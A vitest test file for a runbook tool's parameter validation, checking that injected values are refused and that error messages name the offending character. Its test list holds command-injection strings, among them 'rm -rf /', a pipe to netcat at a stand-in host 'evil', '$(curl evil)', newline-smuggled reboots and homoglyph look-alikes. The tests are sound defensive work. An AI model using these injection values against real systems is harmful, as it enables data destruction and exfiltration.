import { describe, expect, it } from 'vitest';
import type { DocumentParameter } from '../../../../preload/contract/commands';
import { checkParameterValues } from '../../../../main/commands/parameter-rules';
import type { RunbookParameterRule } from '../../../../main/runbooks/runbook-definition';
import { checkRunbookValues, injectionRefusal } from '../../../../main/runbooks/runbook-values';

const docParameter = (name: string, overrides: Partial<DocumentParameter> = {}): DocumentParameter => ({
  name,
  type: 'String',
  description: '',
  default: null,
  allowedValues: null,
  allowedPattern: null,
  displayType: 'textfield',
  minItems: null,
  maxItems: null,
  minChars: null,
  maxChars: null,
  ...overrides,
});
const rule = (name: string, overrides: Partial<RunbookParameterRule> = {}): RunbookParameterRule => ({
  name,
  label: null,
  description: null,
  allowedValues: null,
  allowedPattern: null,
  default: null,
  ...overrides,
});

// Capstan-RestartService's own pattern, and a user runbook whose pattern is far too loose.
const documentParameters = [docParameter('serviceName', { allowedPattern: '^[A-Za-z0-9][A-Za-z0-9_.@-]{0,63}$' }), docParameter('logDirectory', { default: '/var/log' })];
const strict = [rule('serviceName', { allowedPattern: '[a-z0-9-]{1,32}' })];
const loose = [rule('logDirectory', { allowedPattern: '.*' })];

describe('parameter injection is refused before anything is sent', () => {
  const attempts = [
    'nginx; rm -rf /',
    'nginx && reboot',
    'nginx | nc evil 80',
    'nginx`id`',
    '$(curl evil)',
    '${IFS}',
    'nginx\nreboot',
    'nginx\r\nreboot',
    'nginx > /etc/passwd',
    "nginx' -o '",
    'nginx"',
    '{{ssm:/secret}}',
    // Cyrillic "і" and "е": looks like nginx / redis.
    'ngіnx',
    'rеdis',
    // A right-to-left override and a zero-width space.
    'nginx\u202e',
    'ngi\u200bnx',
  ];

  it.each(attempts)('%j is refused by the runbook, even under a pattern that lets anything through', (value) => {
    const viaStrict = checkRunbookValues(strict, documentParameters, {}, { serviceName: [value] });
    expect(viaStrict.fieldErrors.map((e) => e.field)).toContain('serviceName');
    const viaLoose = checkRunbookValues(loose, documentParameters, {}, { logDirectory: [value] });
    expect(viaLoose.fieldErrors.map((e) => e.field)).toContain('logDirectory');
  });

  it.each(attempts.filter((value) => !value.includes('{{')))('%j is also refused by the document’s own pattern (E’s check, SSM’s rule)', (value) => {
    expect(checkParameterValues(documentParameters, { serviceName: [value] }).map((e) => e.field)).toEqual(['serviceName']);
  });

  it('says which character is wrong and why', () => {
    expect(injectionRefusal('nginx; rm -rf /')).toMatch(/^";" is not allowed — runbook values cannot contain/);
    expect(injectionRefusal('nginx\nreboot')).toBe('contains a line break or control character (U+000A); enter a single line of plain text.');
    expect(injectionRefusal('ngіnx')).toBe('"і" (U+0456) is not a plain ASCII character; retype the value (look-alike letters are refused).');
    expect(injectionRefusal('C:\\ProgramData\\Amazon\\SSM\\Logs')).toBeNull();
    expect(injectionRefusal('/var/log/nginx')).toBeNull();
  });
});

describe('runbook values', () => {
  it('sends defaults explicitly and the fixed values, so the audit shows what ran', () => {
    const result = checkRunbookValues([rule('serviceName', { allowedValues: ['nginx', 'httpd'], default: ['nginx'] })], documentParameters, { logDirectory: ['/var/log/app'] }, {});
    expect(result).toEqual({ parameters: { serviceName: ['nginx'], logDirectory: ['/var/log/app'] }, fieldErrors: [] });
  });

  it('refuses a value outside the runbook’s list even when the document would take it', () => {
    const result = checkRunbookValues([rule('serviceName', { allowedValues: ['nginx', 'httpd'] })], documentParameters, {}, { serviceName: ['sshd'] });
    expect(result.fieldErrors).toEqual([{ field: 'serviceName', message: 'serviceName: choose one of nginx, httpd.' }]);
  });

  it('applies the runbook’s narrower pattern and then the document’s', () => {
    expect(checkRunbookValues(strict, documentParameters, {}, { serviceName: ['Nginx'] }).fieldErrors[0]?.message).toMatch(/does not match the runbook's pattern/);
    const wide = [rule('serviceName', { allowedPattern: '[a-z_]+|-[a-z]+' })];
    expect(checkRunbookValues(wide, documentParameters, {}, { serviceName: ['-now'] }).fieldErrors[0]?.message).toMatch(/^serviceName: .*\(pattern \^\[A-Za-z0-9\]/);
  });

  it('refuses values for fixed parameters and for names the runbook does not take', () => {
    const result = checkRunbookValues(strict, documentParameters, { logDirectory: ['/var/log'] }, { serviceName: ['nginx'], logDirectory: ['/'], commands: ['id'] });
    expect(result.fieldErrors).toEqual([
      { field: 'logDirectory', message: 'logDirectory: is fixed by the runbook and cannot be changed.' },
      { field: 'commands', message: 'commands: this runbook does not take it; it takes serviceName.' },
    ]);
    expect(result.parameters.logDirectory).toEqual(['/var/log']);
  });

  it('names a required parameter left empty', () => {
    expect(checkRunbookValues(strict, documentParameters, {}, { serviceName: [''] }).fieldErrors).toEqual([{ field: 'serviceName', message: 'serviceName: required — enter a value.' }]);
  });
});
